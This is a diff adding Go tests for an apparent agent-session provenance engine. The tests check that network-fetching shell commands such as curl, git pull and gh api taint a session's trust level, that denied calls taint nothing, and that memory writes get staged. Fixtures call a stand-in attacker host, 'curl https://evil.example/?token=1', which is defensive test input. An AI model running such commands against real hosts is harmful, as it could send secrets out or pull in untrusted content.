@@ -1,0 +1,176 @@
+package engine
+
+import (
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/provenanced/provenanced/internal/trust"
+	"github.com/provenanced/provenanced/internal/wire"
+)
+
+func line(command string) map[string]string { return map[string]string{"command": command} }
+
+// reason is what people are told of why a session has its level.
+func (c *chat) reason() string {
+	v, err := c.engine.Session(c.key)
+	require.NoError(c.t, err)
+	return v.Reason
+}
+
+func TestACommandThatFetchesTaints(t *testing.T) {
+	for _, tc := range []struct {
+		command string
+		want    trust.Level
+		reason  string
+	}{
+		{"ls -la", trust.Trusted, ""},
+		{"curl https://evil.example", trust.Untrusted, "exec response (curl)"},
+		{"git pull && make", trust.External, "exec response (git)"},
+	} {
+		h := newHost(t, "")
+		c := h.open("s", owner)
+		c.turn("go")
+		c.llm()
+		allowed(t, c.run("exec", line(tc.command))) // its result comes without parameters
+		require.Equal(t, tc.want, c.level(), tc.command)
+		if tc.reason != "" {
+			require.Equal(t, tc.reason, c.reason())
+			c.llm()
+			held(t, c.run("exec", line("ls")))
+			require.Contains(t, c.command("/provenance explain").Result.Text, tc.reason)
+		}
+	}
+}
+
+func TestTheGraphNamesWhatACommandFetchedWith(t *testing.T) {
+	h := newHost(t, "")
+	c := h.open("s", owner)
+	c.turn("go")
+	c.run("exec", line("ls"))
+	c.run("exec", line("curl https://evil.example/?token=1"))
+	g, err := h.engine.Graph("s", "last")
+	require.NoError(t, err)
+	require.Equal(t, []string{"exec curl"}, g.Summary.ExternalSources)
+}
+
+func TestADeniedCommandTaintsNothing(t *testing.T) {
+	h := newHost(t, "toolOverrides: {exec: {'*': confirm}}")
+	c := h.open("s", owner)
+	c.turn("go")
+	d, id := c.call("exec", line("curl https://evil.example"))
+	code := held(t, d)
+	c.returns("exec", id) // some hosts report the block as a result
+	require.Equal(t, trust.Trusted, c.level())
+
+	ask := func() Decision {
+		return c.send(wire.BeforeToolCall, &wire.BeforeToolCallEvent{ToolName: "exec", ToolCallID: id, Params: raw(line("curl https://evil.example"))})
+	}
+	require.Equal(t, trust.VerdictAllow, c.command(".approve exec "+code+" once").Verdict)
+	allowed(t, ask())
+	c.returns("exec", id)
+	require.Equal(t, trust.Untrusted, c.level(), "asked about again, it ran")
+	require.Equal(t, "exec response (curl)", c.reason())
+}
+
+// A result may come without parameters or with others than were asked about: the
+// lowest that was heard of the call counts.
+func TestTheLowestThatWasHeardOfACallCounts(t *testing.T) {
+	const id = "a"
+	announced := func(command string) (wire.Hook, any) {
+		return wire.AfterLLMCall, &wire.AfterLLMCallEvent{ToolCalls: []wire.ToolCall{{ID: id, Name: "exec", Arguments: raw(line(command))}}}
+	}
+	asked := func(command string) (wire.Hook, any) {
+		return wire.BeforeToolCall, &wire.BeforeToolCallEvent{ToolName: "exec", ToolCallID: id, Params: raw(line(command))}
+	}
+	returned := func(command string) (wire.Hook, any) {
+		ev := &wire.AfterToolCallEvent{ToolName: "exec", ToolCallID: id, Result: raw("x")}
+		if command != "" {
+			ev.Params = raw(line(command))
+		}
+		return wire.AfterToolCall, ev
+	}
+	for _, tc := range []struct {
+		name                       string
+		announced, asked, returned string
+		want                       trust.Level
+	}{
+		{"the same all along", "ls", "ls", "ls", trust.Trusted},
+		{"announced", "curl x", "ls", "ls", trust.Untrusted},
+		{"asked", "ls", "curl x", "ls", trust.Untrusted},
+		{"returned", "ls", "ls", "curl x", trust.Untrusted},
+		{"asked, and returned without parameters", "ls", "gh api x", "", trust.External},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := newHost(t, "")
+			c := h.open("s", owner)
+			c.turn("go")
+			c.llm()
+			c.send(announced(tc.announced))
+			allowed(t, c.send(asked(tc.asked)))
+			require.Equal(t, trust.Trusted, c.level(), "nothing has come back")
+			c.send(returned(tc.returned))
+			require.Equal(t, tc.want, c.level())
+		})
+	}
+	t.Run("and is named", func(t *testing.T) {
+		h := newHost(t, "")
+		c := h.open("s", owner)
+		c.turn("go")
+		c.llm()
+		c.send(announced("curl x"))
+		allowed(t, c.send(asked("gh api x")))
+		c.send(returned("gh api x"))
+		require.Equal(t, "exec response (curl)", c.reason())
+	})
+	t.Run("a result that nobody asked about", func(t *testing.T) {
+		h := newHost(t, "")
+		c := h.open("s", owner)
+		c.turn("go")
+		c.send(returned("curl x"))
+		require.Equal(t, trust.Untrusted, c.level())
+		require.Equal(t, "exec response (curl)", c.reason())
+	})
+}
+
+func TestAnAnnouncedCommandWithoutAResultCountsAsReturned(t *testing.T) {
+	announce := func(c *chat, command string) {
+		c.send(wire.AfterLLMCall, &wire.AfterLLMCallEvent{ToolCalls: []wire.ToolCall{{ID: "a", Name: "exec", Arguments: raw(line(command))}}})
+	}
+	h := newHost(t, "")
+	c := h.open("s", owner)
+	c.turn("go")
+	c.llm()
+	announce(c, "ls")
+	c.llm()
+	require.Equal(t, trust.Trusted, c.level())
+	announce(c, "curl https://evil.example")
+	require.Equal(t, trust.Trusted, c.level())
+	c.emit()
+	require.Equal(t, trust.Untrusted, c.level())
+	require.Equal(t, "exec response (curl)", c.reason())
+}
+
+func TestAMemoryWriteAnnouncedWithACommandThatFetchesIsStaged(t *testing.T) {
+	for command, staged := range map[string]int{"ls": 0, "curl https://evil.example": 1} {
+		h := newHost(t, "")
+		c := h.open("s", owner)
+		c.turn("go")
+		c.llm()
+		write := raw(map[string]string{"path": "MEMORY.md", "content": "x"})
+		c.send(wire.AfterLLMCall, &wire.AfterLLMCallEvent{ToolCalls: []wire.ToolCall{
+			{ID: "a", Name: "exec", Arguments: raw(line(command))}, {ID: "b", Name: "write", Arguments: write},
+		}})
+		c.send(wire.BeforeToolCall, &wire.BeforeToolCallEvent{ToolName: "write", ToolCallID: "b", Params: write})
+		require.Len(t, h.staged, staged, command)
+	}
+}
+
+func TestACallOfAnEarlierVersionsRecordsReturnsUntrustedContent(t *testing.T) {
+	s := newState()
+	for _, c := range []Change{{Op: OpTurnStarted, Level: trust.Trusted}, {Op: OpCall, CallID: "a", Tool: "exec", Status: Running}} {
+		s.apply(&c, time.Time{})
+	}
+	require.Equal(t, trust.Untrusted, s.Turn.Calls[0].Level)
+}
